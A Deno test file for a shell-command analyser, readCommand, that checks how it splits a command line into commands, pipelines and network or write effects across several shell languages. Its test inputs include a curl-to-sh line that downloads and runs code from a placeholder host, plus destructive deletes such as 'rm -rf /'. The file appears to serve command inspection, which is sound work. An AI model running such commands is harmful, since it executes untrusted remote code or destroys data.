import assert from "node:assert/strict";
import { readCommand } from "./mod.ts";

Deno.test("readCommand works out commands, pipelines and effects", () => {
  const reading = readCommand("cd /tmp && curl -s https://e.example/x | tee y | sh", { home: "/root" });
  assert.deepEqual(reading.commands.map((run) => run.text), [
    "cd /tmp",
    "curl -s https://e.example/x",
    "tee y",
    "sh",
  ]);
  assert.deepEqual(reading.pipelines.map((line) => line.text), ["curl -s https://e.example/x | tee y | sh"]);
  assert.deepEqual(reading.effects.map((effect) => effect.kind), ["connect", "write"]);
  assert.equal(reading.commands.at(-1)?.code, "download");
  assert.deepEqual(reading.gaps, []);
});

Deno.test("other languages are read too", () => {
  for (
    const [language, source] of [["fish", "rm -rf /"], ["powershell", "Remove-Item -Recurse C:\\x"], [
      "cmd",
      "del /s C:\\x",
    ]] as const
  ) {
    assert.ok(readCommand(source, { language, cwd: "/w" }).commands.length > 0, language);
  }
});
